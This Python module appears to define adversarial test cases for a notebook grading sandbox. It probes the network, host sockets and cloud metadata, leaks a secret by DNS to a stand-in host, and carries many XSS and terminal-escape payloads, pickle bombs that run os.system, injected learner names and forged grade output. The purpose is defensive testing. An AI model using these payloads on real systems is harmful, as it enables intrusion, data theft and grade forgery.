"""Reaching out of the machine, and reaching the instructor: the network, and what pages act on."""

from __future__ import annotations

import re
from collections.abc import Mapping
from html.parser import HTMLParser
from typing import Any

from grader.attacks import (
    NOTEBOOK,
    SOLVED,
    UNSOLVED,
    Aftermath,
    Attack,
    Base,
    answer_attack,
    cell_attack,
    cell_named,
    json_attack,
)

CODE = ("unusual code",)

ACTING = frozenset(
    {"script", "iframe", "frame", "object", "embed", "svg", "form", "input", "base", "meta", "link"}
)
ADDRESS = frozenset(
    {"src", "href", "action", "formaction", "data", "srcdoc", "xlink:href", "style"}
)
SCHEME = re.compile(r"(javascript|vbscript|data|file)\s*:|//[a-z.]*pwned", re.IGNORECASE)
BIDIRECTIONAL = re.compile("[\u202a-\u202e\u2066-\u2069]")
ESCAPES_BUT_COLOURS = re.compile(r"\x1b(?!\[[0-9;]*m)|\x9b|\x9d|\x07")


class _Page(HTMLParser):
    """Collects what of a page acts or loads and bears an attacker's mark."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._script = tag in ("script", "style")
        for name, value in attrs:
            value = value or ""
            acts = name.startswith("on") or tag in ACTING
            if "pwned" in value and (acts or (name in ADDRESS and SCHEME.search(value))):
                self.found.append(f"<{tag} {name}>")

    def handle_endtag(self, tag: str) -> None:
        self._script = False

    def handle_data(self, data: str) -> None:
        if self._script and "pwned" in data:
            self.found.append("a script of the learner's")


def _harmless(aftermath: Aftermath) -> str | None:
    """Say what on the attacker's feedback page would act in a reader's browser."""
    for name, data in aftermath.shown.items():
        if name.endswith(".html"):
            page = _Page()
            page.feed(data.decode("utf-8", "replace"))
            if page.found:
                return f"{', '.join(sorted(set(page.found)))} in {name}"
    return None


def _plain_outputs(aftermath: Aftermath) -> str | None:
    """Say what beside text and pictures is kept of outputs in the graded notebook."""
    for cell in aftermath.report.notebook.cells:
        for output in cell.get("outputs", []):
            kinds = set(output.get("data", {})) - {"text/plain", "image/png"}
            if kinds - {"text/html"} or "pwned" in output.get("data", {}).get("text/html", ""):
                return f"outputs of kind {', '.join(sorted(kinds))} are kept"
    return _harmless(aftermath)


def _harmless_text(aftermath: Aftermath) -> str | None:
    """Say whether text is kept that acts on a terminal or turns the words around it."""
    for cell in aftermath.report.notebook.cells:
        for output in cell.get("outputs", []):
            text = str(output.get("text", "")) + str(output.get("evalue", ""))
            text += "".join(output.get("traceback", [])) + str(output.get("data", {}))
            if ESCAPES_BUT_COLOURS.search(text):
                return "an escape sequence that is no colour is kept"
    return None


def _xss(base: Base) -> Mapping[str, bytes]:
    hostile = "\n\n".join(
        (
            "<script>pwned()</script>",
            "<img src=x onerror='pwned()'><svg onload='pwned()'></svg>",
            "<iframe src='//pwned.example'></iframe><iframe srcdoc='<script>pwned()</script>'>",
            "[x](javascript:pwned()) <javascript:pwned()> [y](data:text/html;base64,pwned)",
            "![x](https://pwned.example/seen.png) ![x](x 'a\" onerror=\"pwned()')",
            "$\\href{javascript:pwned()}{x}$ $$\\url{javascript:pwned()}$$ "
            "$\\class{x}{y}\\style{background:url(//pwned.example)}{x}$",
            "$\\unicode{x<script>pwned()</script>}$ $</script><script>pwned()</script>$",
            "<math href='javascript:pwned()'><mtext><style><img src=x onerror=pwned()>",
            "<style>@import '//pwned.example/x.css'</style><base href='//pwned.example/'>",
            "<form action='//pwned.example'><input name=x><button formaction='//pwned.example'>",
            "<details open ontoggle='pwned()'><summary onclick='pwned()'>x</summary></details>",
            "`</code><script>pwned()</script>`\n\n```html\n</pre><script>pwned()</script>\n```",
            "</div></div></body></html><script>pwned()</script><!-- <![CDATA[ -->",
            "<a id=\"x' onclick='pwned()\" href='&#x6A;avascript&#58;pwned()'>x</a>",
        )
    )
    work = base.half.with_cell_before(SOLVED, hostile, "markdown")
    work = work.with_answer("why_positive", hostile)
    return work.with_answer(UNSOLVED, f"r'''</pre></div>{hostile}'''").as_files()


def _hostile_metadata(data: Any) -> None:
    script = "</script><script>pwned()</script>"
    data["metadata"] |= {
        "title": script,
        "authors": [{"name": script}],
        "kernelspec": {"name": f"../../{script}", "display_name": script, "language": script},
        "language_info": {
            "name": script,
            "pygments_lexer": "html",
            "codemirror_mode": {"name": script},
            "mimetype": "text/html",
            "version": script,
        },
        "widgets": {
            "application/vnd.jupyter.widget-state+json": {
                "state": {"a": {"model_name": "HTMLModel", "state": {"value": script}}},
                "version_major": 2,
                "version_minor": 0,
            }
        },
    }
    for cell in data["cells"]:
        cell["metadata"] |= {
            "tags": ["hide_input", script],
            "slideshow": {"slide_type": script},
            "raw_mimetype": "text/html",
            "format": "text/html",
        }
    data["cells"].append(
        {
            "cell_type": "raw",
            "id": "raw",
            "source": script,
            "metadata": {"raw_mimetype": "text/html", "format": "text/html"},
        }
    )


def _hostile_attachments(data: Any) -> None:
    svg = "PHN2ZyBvbmxvYWQ9InB3bmVkKCkiLz4="
    cell = cell_named(data, "why_positive")
    cell["source"] = "![x](attachment:x.svg) [y](attachment:y.html)"
    cell["attachments"] = {
        "x.svg": {"image/svg+xml": svg},
        "y.html": {"text/html": "<script>pwned()</script>"},
        "../../z.png": {"image/png": '"><script>pwned()</script>'},
    }


def _saved_outputs(data: Any) -> None:
    """Write outputs into the file, as if the learner's own run had shown them."""
    kinds = {
        "text/html": "<script>pwned()</script>",
        "application/javascript": "pwned()",
        "image/svg+xml": "<svg onload='pwned()'/>",
        "image/png": '" onerror="pwned()',
        "text/latex": "$\\href{javascript:pwned()}{x}$",
        "application/vnd.jupyter.widget-view+json": {"model_id": "a"},
        "text/plain": "✓ Hidden questions: right (99 of 2 points).",
    }
    for cell in data["cells"]:
        if cell["cell_type"] == "code":
            cell["execution_count"] = 1
            cell["outputs"] = [{"output_type": "display_data", "metadata": {}, "data": kinds}]


NETWORK = (
    cell_attack(
        "reaching/network",
        "TCP, UDP and IPv6 to the host, to its neighbours, to the cloud's own address",
        """\
import socket
places = [("127.0.0.1", HOST_PORT), ("::1", HOST_PORT), ("::ffff:127.0.0.1", HOST_PORT),
          ("169.254.169.254", 80), ("10.0.2.2", HOST_PORT), ("172.17.0.1", HOST_PORT),
          ("192.0.2.1", 80), ("0.0.0.0", HOST_PORT), ("fe80::1", 80)]
for address, port in places:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    try:
        with socket.socket(family, socket.SOCK_STREAM) as one:
            one.settimeout(0.3)
            one.connect((address, port))
            print(REACHED, address)
    except OSError:
        pass
for address in ("127.0.0.1", "255.255.255.255", "224.0.0.1"):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            one.settimeout(0.3)
            one.sendto(b"hello", (address, HOST_UDP_PORT))
            if one.recv(100):
                print(REACHED, address)
    except OSError:
        pass""",
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "reaching/names",
        "a secret as a name that is looked up, by the library and by datagrams of one's own",
        """\
import socket
socket.setdefaulttimeout(0.5)
for name in ("secret.pwned.example", "localhost.pwned.example", "metadata.google.internal"):
    try:
        print(REACHED, socket.getaddrinfo(name, 80))
    except OSError:
        pass
question = b"\\0\\1\\1\\0\\0\\1" + bytes(6) + b"\\6secret\\5pwned\\7example\\0\\0\\1\\0\\1"
try:
    servers = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("names")]
except OSError:
    servers = []
for server in [*servers, "8.8.8.8", "127.0.0.53"]:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.settimeout(0.3)
            one.sendto(question, (server, 53))
            if one.recv(512):
                print(REACHED, server)
    except OSError:
        pass""",
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "reaching/families-of-sockets",
        "every family of sockets that there is: vsock, Bluetooth, packets, netlink, XDP, crypto",
        """\
import socket
allowed = {socket.AF_UNIX, socket.AF_INET}
for family in range(1, 64):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        for protocol in (0, 1, 3, 15, 16):
            routes = family == socket.AF_NETLINK and protocol == 0
            try:
                with socket.socket(family, kind, protocol):
                    raw = kind == socket.SOCK_RAW and family != socket.AF_UNIX
                    if (family not in allowed or raw) and not routes:
                        print(REACHED, family, kind, protocol)
            except (OSError, ValueError):
                pass""",
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "reaching/sockets-of-the-host",
        "unix sockets of the host: an abstract one, Docker, D-Bus, X11, databases, the ssh agent",
        """\
import glob, os, socket
paths = ["\\0" + HOST_SOCKET, "\\0/tmp/.X11-unix/X0", "/tmp/.X11-unix/X0", "/run/docker.sock",
         "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket",
         "/run/user/0/bus", "/var/run/postgresql/.s.PGSQL.5432", "/run/systemd/notify",
         "/dev/log", os.environ.get("SSH_AUTH_SOCK", "/none"), *glob.glob("/tmp/ssh-*/agent.*"),
         *glob.glob("/run/**/*.sock", recursive=True), *glob.glob("/proc/1/root/run/**/*.sock")]
for path in paths:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_UNIX, kind) as one:
                one.settimeout(0.3)
                one.connect(path)
                print(REACHED, path)
        except OSError:
            pass""",
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "reaching/interfaces",
        "another interface, address or route by netlink, a tunnel, packets that are made by hand",
        """\
import fcntl, os, socket, struct, subprocess
with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as one:
    one.settimeout(0.5)
    make = struct.pack("=BxHiII", 0, 0, 0, 1, 1) + b"\\x0a\\0\\3\\0glas\\0\\0\\0\\0"
    for kind in (16, 20, 24):
        try:
            one.send(struct.pack("=IHHII", 16 + len(make), kind, 0x605, 1, 0) + make)
            reply = one.recv(4096)
            if struct.unpack_from("=i", reply, 16)[0] == 0:
                print(REACHED, kind)
        except OSError:
            pass
with socket.socket() as one:
    names = {name for _, name in socket.if_nameindex()}
    if names - {"lo"}:
        print(REACHED, names)
for path in ("/dev/net/tun", "/dev/vhost-net", "/dev/vsock", "/dev/kvm", "/dev/fuse"):
    try:
        os.close(os.open(path, os.O_RDWR))
        print(REACHED, path)
    except OSError:
        pass""",
        told=CODE,
        keeps=True,
    ),
)

PAGES = (
    cell_attack(
        "reaching/displays",
        "scripts in every kind of display that a notebook page acts on",
        """\
from IPython.display import HTML, IFrame, Javascript, Latex, Markdown, SVG, display
import json
kinds = {
    "text/html": "<script>pwned()</script><img src=x onerror=pwned()>",
    "application/javascript": "pwned()",
    "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>",
    "text/markdown": "[x](javascript:pwned())",
    "text/latex": "$\\\\href{javascript:pwned()}{x}$",
    "application/pdf": "JVBERi0=",
    "image/jpeg": "\\" onerror=\\"pwned()",
    "image/png": "\\" onerror=\\"pwned()",
    "image/gif": "R0lGODlh",
    "application/vnd.jupyter.widget-view+json": {"model_id": "pwned", "version_major": 2},
    "application/vnd.plotly.v1+json": {"data": [{"text": "<script>pwned()</script>"}]},
    "application/vnd.vega.v5+json": {"signals": [{"init": "pwned()"}]},
    "application/vnd.bokehjs_exec.v0+json": "pwned()",
    "application/vnd.mathjax": "pwned()",
    "application/geo+json": {},
    "text/vnd.mermaid": "click A 'javascript:pwned()'",
    "application/x.glasslab-answer+json": "pwned",
}
for kind, value in kinds.items():
    display({kind: value}, raw=True, metadata={kind: {"alt": "\\"><script>pwned()</script>"}})
display({"text/plain": "</pre><script>pwned()</script>", **kinds}, raw=True)
for one in (HTML("<script>pwned()</script>"), Javascript("pwned()"), Latex("$x$"),
            IFrame("javascript:pwned()", 9, 9), Markdown("<script>pwned()</script>")):
    display(one)
class Both:
    def _repr_html_(self):
        return "<script>pwned()</script>"
    def _repr_mimebundle_(self, **_):
        return {"text/html": "<script>pwned()</script>", "text/plain": "<script>pwned()</script>"}
    def __repr__(self):
        return "</pre><script>pwned()</script>"
Both()""",
        told=CODE,
        keeps=True,
        also=_plain_outputs,
    ),
    cell_attack(
        "reaching/magics",
        "cells that are scripts for the page: %%javascript, %%html, %%svg, %%latex, %%markdown",
        """\
shell = get_ipython()
for name in ("javascript", "html", "svg", "latex", "markdown", "js"):
    try:
        shell.run_cell_magic(name, "", "<svg onload='pwned()'/><script>pwned()</script>")
    except Exception:
        pass
shell.run_line_magic("alias_magic", "pwned javascript") if False else None""",
        told=CODE,
        keeps=True,
        also=_plain_outputs,
    ),
    cell_attack(
        "reaching/widgets",
        "messages by which a widget on the page, or a page of the grader, would be spoken to",
        """\
from IPython.display import display
kernel = get_ipython().kernel
for target in ("jupyter.widget", "jupyter.widget.control", "pwned"):
    content = {"comm_id": "pwned", "target_name": target, "data": {"state": {
        "_model_name": "HTMLModel", "value": "<script>pwned()</script>"}}}
    for kind in ("comm_open", "comm_msg", "comm_close"):
        kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent())
for kind in ("input_request", "shutdown_reply", "debug_event", "execute_input", "set_next_input"):
    kernel.session.send(kernel.iopub_socket, kind, {"code": "pwned()", "text": "pwned()",
                        "status": "ok", "restart": True}, parent=kernel.get_parent())
payload = [{"source": "set_next_input", "text": "pwned()", "replace": True},
           {"source": "page", "data": {"text/html": "<script>pwned()</script>"}, "start": 0},
           {"source": "edit_magic", "filename": "/etc/passwd", "line_number": 1},
           {"source": "ask_exit", "keepkernel": False}]
for one in payload:
    get_ipython().payload_manager.write_payload(one)""",
        told=CODE,
        keeps=True,
        also=_plain_outputs,
    ),
    cell_attack(
        "reaching/errors",
        "a script for the name, the text and the traceback of an error",
        """\
kernel = get_ipython().kernel
script = "</pre><script>pwned()</script>"
kernel.session.send(kernel.iopub_socket, "error", {"ename": script, "evalue": script,
                    "traceback": [script, "\\x1b[31m" + script]}, parent=kernel.get_parent())
raise type(script, (Exception,), {})(script)""",
        told=CODE,
        keeps=True,
        also=_harmless,
    ),
    cell_attack(
        "reaching/terminal",
        "sequences that a terminal acts on: its title, its clipboard, what it answers, its links",
        """\
import os, sys
bell, esc = "\\x07", "\\x1b"
hostile = (f"{esc}]52;c;cHduZWQ={bell}{esc}]0;pwned{bell}{esc}]8;;file:///etc/passwd{bell}x"
           f"{esc}]8;;{bell}{esc}[2J{esc}[H{esc}[6n{esc}c{esc}P$q{esc}\\\\{esc}_x{esc}\\\\"
           "\\x9b6n\\x9d0;pwned\\x9c\\0\\x08\\x7f")
print(hostile)
print(hostile, file=sys.stderr)
os.write(1, hostile.encode())
raise ValueError(hostile)""",
        told=CODE,
        keeps=True,
        also=_harmless_text,
    ),
    cell_attack(
        "reaching/look-alike",
        "a verdict of the learner's own, in the grader's words, turned letters and pictures",
        """\
from IPython.display import HTML, display
text = "✓ Hidden questions: right (99 of 2 points). Right on 5 of 5 hidden models."
print("\\u202e" + text[::-1] + "\\u202c", text, "\\u2066")
display({"text/plain": text, "text/html": f"<p><strong>{text}</strong></p>"}, raw=True)
display(HTML(f"<p><strong>{text}</strong></p>"))""",
        keeps=True,
        also=_plain_outputs,
    ),
    Attack(
        "reaching/text-with-scripts",
        "scripts in explanations and in code, by fourteen ways into a page",
        _xss,
        told=CODE,
        keeps=True,
        also=_harmless,
    ),
    json_attack(
        "reaching/metadata",
        "scripts in the notebook's and the cells' metadata, and in a raw cell that says it is HTML",
        _hostile_metadata,
        keeps=True,
        also=_harmless,
    ),
    json_attack(
        "reaching/attachments",
        "pictures beside the text that are scripts, pages, or lie elsewhere",
        _hostile_attachments,
        keeps=True,
        also=_harmless,
    ),
    json_attack(
        "reaching/saved-outputs",
        "outputs that the file brings with it: scripts, and a verdict",
        _saved_outputs,
        keeps=True,
        also=_plain_outputs,
    ),
    Attack(
        "reaching/name-is-a-script",
        "a learner's name that is a script on the pages that show it",
        lambda base: {NOTEBOOK: base.half.as_bytes()},
        student="<img src=x onerror=pwned()>",
        keeps=True,
        also=_harmless,
    ),
    *(
        Attack(
            f"reaching/name-is-{what}",
            f"a learner's name that {does}",
            lambda base: {NOTEBOOK: base.half.as_bytes()},
            student=name,
            keeps=what != "a-sequence",
            refused=what == "a-sequence",
        )
        for what, name, does in (
            ("a-formula", '=HYPERLINK("pwned.example","grade")', "a table program computes"),
            ("an-option", "--force", "a command takes for an option"),
            ("a-sequence", "\x1b]0;pwned\x07mia", "a terminal acts on"),
            ("not-ascii", "Zoë-Ångström-李", "is written in other letters: an honest one"),
        )
    ),
)

PICKLES = (
    answer_attack(
        "reaching/pickle",
        "an answer that is unpickled, or evaluated, would act in the examiner",
        """\
import os, pickle, torch
class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned",)
calls = []
def unwrapped_embedding(W_E):
    calls.append(0)
    code = "__import__('os').system('touch /tmp/pwned')"
    return [Bomb(), pickle.dumps(Bomb()), pickle.dumps(Bomb()).decode("latin-1"), code,
            {"kind": "pickle", "value": code}, {"__reduce__": code}][len(calls) % 6]""",
        told=CODE,
        keeps=True,
    ),
    cell_attack(
        "reaching/pickle-in-a-reply",
        "pickles and models among the replies, where only plain data is read",
        """\
import base64, json, os, pickle
import glasslab_responder as responder
class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned",)
raw = base64.b64encode(pickle.dumps(Bomb())).decode()
forms = [{"kind": "pickle", "value": raw}, {"kind": "model", "weights": raw, "config": {}},
         {"kind": "array", "dtype": "object", "shape": [1], "data": raw},
         {"kind": "array", "dtype": "O", "shape": [1], "data": raw},
         {"kind": "array", "dtype": "float64", "shape": [-1, 2**62], "data": raw},
         {"kind": "array", "dtype": "float64", "shape": [67108864, 0], "data": ""}]
calls = []
def answer(*_):
    calls.append(0)
    return json.dumps({"status": "answered", "value": forms[len(calls) % len(forms)]})
responder.answer = answer""",
    ),
)

ATTACKS = (*NETWORK, *PAGES, *PICKLES)
